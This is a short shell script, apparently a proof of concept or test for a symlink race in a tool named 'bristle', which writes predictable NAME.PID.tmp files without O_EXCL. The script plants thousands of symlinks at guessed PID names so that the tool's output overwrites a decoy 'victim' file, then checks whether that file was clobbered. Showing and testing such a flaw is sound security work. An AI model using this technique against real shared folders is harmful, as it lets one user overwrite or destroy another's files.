#!/bin/sh
# emit_symlink.sh [BRISTLE [SPEC]], needs python3: files are written as NAME.PID.tmp
# and renamed. That name can be guessed and is opened without O_EXCL: in a
# folder where others may write, a link of theirs with one of the next process
# numbers leads what is written to any file of the user. (Linux's
# protected_symlinks helps in sticky folders only.)
bristle=${1:-out/bin/bristle} spec=${2:-specs/contact/few_bristles.lua}
dir=$(mktemp -d) && mkdir "$dir/out" && echo precious >"$dir/victim"
python3 -c '
import os, sys
for pid in range(os.getpid(), os.getpid() + 20000):
    os.symlink("../victim", "%s/%s.c.%d.tmp" % (sys.argv[1], sys.argv[2], pid))
' "$dir/out" "$(basename "$spec" .lua)"
"$bristle" emit "$spec" -o "$dir/out" >/dev/null
echo "emit says $?; the victim holds $(wc -c <"$dir/victim") bytes and begins: $(head -c 40 "$dir/victim" | head -1)"
[ "$(head -c 8 "$dir/victim")" = precious ]
code=$?
rm -rf "$dir"
exit $code
